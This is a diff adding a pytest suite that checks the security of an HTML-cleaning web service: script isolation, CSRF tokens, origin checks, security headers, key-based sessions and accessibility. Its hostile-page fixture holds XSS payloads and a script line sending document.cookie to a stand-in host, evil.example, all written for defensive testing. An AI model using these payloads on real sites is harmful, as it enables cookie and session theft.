@@ -1,0 +1,248 @@
+"""Safe: nothing of a document runs, forms of other sites change nothing, keys, any path, faults of accessibility."""
+
+from __future__ import annotations
+
+import re
+import socketserver
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler
+from typing import Any
+
+import httpx
+import pytest
+from browsing import Tab
+from service_process import RunningService
+
+KEY = "a-key-that-is-long-enough"
+HOSTILE = """<!doctype html><html><head><title>\u202eevil\x1b[31m</title><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
+<script>document.title = 'ran'; fetch('https://evil.example/' + document.cookie)</script></head>
+<body onload="alert(1)"><article><p onclick="alert(2)">A paragraph that is long enough to stay, with
+<img src=x onerror="alert(3)"> a picture and <a href="javascript:alert(4)">a link</a>, as people write them.</p>
+<p>Another one &lt;script&gt;alert(5)&lt;/script&gt; {{ 7 * 7 }} that talks about markup and does not mean it, ever.</p>
+<svg onload="alert(6)"><a xlink:href="javascript:alert(7)"><text>go</text></a></svg>
+<iframe srcdoc="<script>alert(8)</script>"></iframe>
+<form action="https://evil.example/"><input name=token><button formaction="javascript:alert(9)">send</button></form>
+<style>@import 'https://evil.example/y.css'; .cleaner-removed { position: fixed; inset: 0 }</style>
+<p class="cleaner-removed" title="spoof">A third paragraph says that it was removed, and it was not, so it stays.</p>
+</article></body></html>"""
+
+
+def test_nothing_of_a_hostile_page_runs(tab: Tab, service: RunningService) -> None:
+    """In any view no script runs, nothing is loaded from elsewhere, no element of the page stands in ours."""
+    tab.give(HOSTILE)
+    document = tab.page.url
+    for view in ("", "?view=side", "?view=page", "?block=0", "/evidence", "/frame"):
+        tab.page.goto(document + view, wait_until="networkidle")
+        foreign = "main img, main svg:not(.bar), main form[action*=evil], [onclick], [onload]"
+        assert tab.page.locator(foreign).count() == 0
+        assert tab.page.locator("script").count() == (0 if view in {"/frame", "/evidence"} else 1)
+    tab.complaints = [one for one in tab.complaints if "404" not in one]  # a frame seen alone has no icon
+    assert [url for url in tab.asked if not url.startswith(service.url)] == []
+    tab.page.goto(document)
+    assert "<script>alert(5)</script> {{ 7 * 7 }}" in tab.page.locator("#blocks").inner_text()
+    assert tab.page.locator("#blocks a[href^='http'], #blocks a[href^='javascript']").count() == 0
+    tab.page.goto(document + "?view=page")
+    frame = tab.page.frame_locator(".frame")
+    frame.get_by_text("A third paragraph").wait_for()
+    assert frame.locator(".cleaner-removed", has_text="A third paragraph").count() == 0
+    assert frame.locator("script, style, form, body [href], [src], [srcdoc]").count() == 0
+    title = tab.page.locator("h1 bdi").inner_text()
+    assert "\u202e" not in title
+    assert "\x1b" not in title
+
+
+def test_a_title_of_a_megabyte_is_cut(tab: Tab) -> None:
+    """And the page stays usable."""
+    job = tab.page.request.post(
+        "/v1/jobs", data={"html": f"<title>{'x' * 1_000_000}</title><p>A short paragraph that stays as it is."},
+        headers={"prefer": "wait=30"},
+    ).json()  # fmt: skip
+    tab.page.goto(f"/documents/{job['result']['source_id']}")
+    assert len(tab.page.locator("h1").inner_text()) <= 300
+    assert len(tab.page.content()) < 100_000
+
+
+@pytest.mark.parametrize("path", ["/", "/documents", "/jobs", "/feedback", "/docs", "/login", "/static/app.js", "/no"])
+def test_every_page_carries_the_safe_headers(service: RunningService, path: str) -> None:
+    """A policy without anything inline, no sniffing, no framing, no referrer, UTF-8."""
+    answer = httpx.get(service.url + path, headers={"accept": "text/html"})
+    policy = answer.headers["content-security-policy"]
+    assert policy.startswith("default-src 'none'")
+    assert "unsafe" not in policy
+    assert "frame-ancestors 'none'" in policy
+    assert (answer.headers["x-content-type-options"], answer.headers["referrer-policy"]) == ("nosniff", "no-referrer")
+    assert "charset=utf-8" in answer.headers["content-type"] or "json" in answer.headers["content-type"]
+
+
+def token_of(client: httpx.Client) -> str:
+    """The token in the forms that this client is given."""
+    found = re.search(r'name="token" value="([^"]+)"', client.get("/").text)
+    assert found is not None
+    return found[1]
+
+
+@pytest.mark.parametrize("path", ["/submit", "/jobs/x/cancel", "/feedback/x/undo", "/documents/x/feedback", "/logout"])
+def test_a_form_without_its_token_changes_nothing(service: RunningService, path: str) -> None:
+    """Without one, with another browser's, or with a cookie alone: 403."""
+    with service.client() as mine, service.client() as other:
+        token, foreign = token_of(mine), token_of(other)
+        assert token != foreign
+        for given in ({}, {"token": foreign}, {"token": ""}):
+            assert mine.post(path, data={"input": "text", **given}).status_code == 403
+        assert mine.post(path, data={"input": "text", "token": token}).status_code != 403
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"sec-fetch-site": "cross-site"},
+        {"sec-fetch-site": "same-site"},
+        {"origin": "https://evil.example"},
+        {"origin": "null"},
+    ],
+)
+@pytest.mark.parametrize("path", ["/submit", "/v1/jobs", "/v1/clean", "/v1/feedback"])
+def test_another_site_changes_nothing(service: RunningService, path: str, headers: dict[str, str]) -> None:
+    """Whatever the browser would send along: 403 before anything is read."""
+    answer = httpx.post(service.url + path, content="A text.", headers={"content-type": "text/plain", **headers})
+    assert answer.status_code == 403
+
+
+def test_nothing_changes_by_reading(service: RunningService) -> None:
+    """Forms' addresses answer a GET with 405, or with a page that changes nothing."""
+    with service.client() as client:
+        for path in ("/submit", "/logout", f"/documents/{'0' * 24}/feedback", "/jobs/x/retry", "/batches/x/cancel"):
+            assert client.get(path).status_code == 405
+
+
+@pytest.fixture(scope="module")
+def keyed(browser: Any) -> Iterator[RunningService]:
+    """A service that wants keys."""
+    keys = f"me:{KEY},you:{KEY}-of-you"
+    with RunningService({"CLEANER_API_KEYS": keys}, "--port", "0", "--workers", "1", "--fetchers", "0") as running:
+        yield running
+
+
+def test_behind_a_key(open_tab: Callable[..., Tab], keyed: RunningService) -> None:
+    """A browser is asked for its key once, is led to where it was going, and out again."""
+    tab = open_tab(url=keyed.url)
+    tab.page.goto("/jobs?status=failed")
+    tab.page.wait_for_url("**/login?to=*")
+    tab.page.get_by_label("API key").fill("wrong")
+    tab.page.get_by_role("button", name="Sign in").click()
+    tab.page.get_by_text("That is not a key").wait_for()
+    tab.complaints.clear()  # the browser notes the 401
+    tab.page.get_by_label("API key").fill(KEY)
+    tab.page.get_by_role("button", name="Sign in").click()
+    tab.page.wait_for_url("**/jobs?status=failed")
+    session = next(one for one in tab.context.cookies() if one["name"] == "cleaner_session")
+    assert (session["httpOnly"], session["sameSite"]) == (True, "Strict")
+    assert KEY not in session["value"]
+    tab.give("A text that belongs to me, and to nobody else who has a key of this service.")
+    mine = tab.page.url
+    yours = httpx.get(mine, headers={"x-api-key": f"{KEY}-of-you"})
+    assert yours.status_code == 404
+    assert httpx.get(mine, headers={"x-api-key": KEY}).status_code == 200
+    tab.page.get_by_role("button", name="Sign out").click()
+    tab.page.wait_for_url("**/login")
+    tab.page.goto(mine)
+    tab.page.wait_for_url("**/login?to=documents*")
+
+
+def test_a_session_of_another_key_or_time_is_none(keyed: RunningService) -> None:
+    """A forged, changed or foreign cookie is no key."""
+    for value in ("", "x", f"{'0' * 16}.9999999999.{'0' * 64}", f"{'0' * 16}.1.{'0' * 64}"):
+        answer = httpx.get(f"{keyed.url}/v1/jobs", cookies={"cleaner_session": value})
+        assert answer.status_code == 401
+
+
+@contextmanager
+def proxy(target: str, prefix: str) -> Iterator[str]:
+    """A proxy that serves `target` below `prefix`, which it strips; the root's address."""
+
+    class Handler(BaseHTTPRequestHandler):
+        def forward(self) -> None:
+            if not self.path.startswith(prefix + "/"):
+                self.send_error(404)
+                return
+            body = self.rfile.read(int(self.headers.get("content-length", 0)))
+            headers = {name: value for name, value in self.headers.items() if name.lower() != "connection"}
+            answer = httpx.request(
+                self.command, target + self.path.removeprefix(prefix), headers=headers, content=body, timeout=60
+            )
+            self.send_response(answer.status_code)
+            for name, value in answer.headers.multi_items():
+                if name not in {"content-length", "transfer-encoding", "content-encoding", "connection"}:
+                    self.send_header(name, value)
+            self.send_header("content-length", str(len(answer.content)))
+            self.end_headers()
+            self.wfile.write(answer.content)
+
+        do_GET = do_POST = forward  # noqa: N815 - http.server's names
+
+        def log_message(self, *_: object) -> None:
+            """Say nothing."""
+
+    class Server(socketserver.ThreadingTCPServer):
+        allow_reuse_address = daemon_threads = True
+        request_queue_size = 128
+
+    with Server(("127.0.0.1", 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_address[1]}{prefix}"
+        server.shutdown()
+
+
+def test_below_a_path_and_behind_a_key(open_tab: Callable[..., Tab], keyed: RunningService) -> None:
+    """Every link, form, file and redirect stays below the prefix."""
+    with proxy(keyed.url, "/tools/cleaner") as root:
+        tab = open_tab(url=root)
+        tab.page.goto(f"{root}/")
+        tab.page.wait_for_url("**/tools/cleaner/login?to=")
+        tab.page.get_by_label("API key").fill(KEY)
+        tab.page.get_by_role("button", name="Sign in").click()
+        tab.page.get_by_role("button", name="A news page").click()
+        tab.page.wait_for_url("**/tools/cleaner/documents/*")
+        tab.page.get_by_role("link", name="Side by side").click()
+        tab.page.locator(".after").first.wait_for(state="attached")
+        gone = tab.page.locator(".b.gone").first
+        gone.hover()
+        gone.get_by_role("button").click()
+        tab.page.locator(".b.hand").first.wait_for()
+        for name in ("Jobs", "Feedback", "Documents", "API", "Clean"):
+            tab.page.get_by_role("link", name=name, exact=True).click()
+            tab.page.locator("h1").wait_for()
+        assert all(url.startswith(root) for url in tab.asked)
+
+
+PLACES = ("/", "/jobs", "/documents", "/feedback", "/docs", "/login", "/documents/0")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("place", [*PLACES, "document", "side", "page"])
+def test_axe_finds_no_serious_fault(open_tab: Callable[..., Tab], scheme: str, place: str) -> None:
+    """Contrast, names, roles, order of headings: nothing serious or critical on any page, light or dark."""
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed")
+    tab = open_tab(color_scheme=scheme, viewport={"width": 1280, "height": 900}, bypass_csp=True)
+    if place in PLACES:
+        tab.page.goto(place)
+    else:
+        tab.page.goto("/")
+        tab.page.get_by_role("button", name="A news page").click()
+        tab.page.wait_for_url("**/documents/*")
+        if place == "document":
+            tab.page.locator(".b.gone").first.click()
+            tab.page.locator("#why table").wait_for()
+        else:
+            tab.page.goto(f"{tab.page.url}?view={place}")
+    found = axe.Axe().run(tab.page)
+    serious = [
+        f"{one['id']}: {[node['html'][:120] for node in one['nodes'][:3]]}"
+        for one in found.response["violations"]
+        if one["impact"] in {"serious", "critical"}
+    ]
+    tab.complaints.clear()  # the browser notes a 404
+    assert serious == []
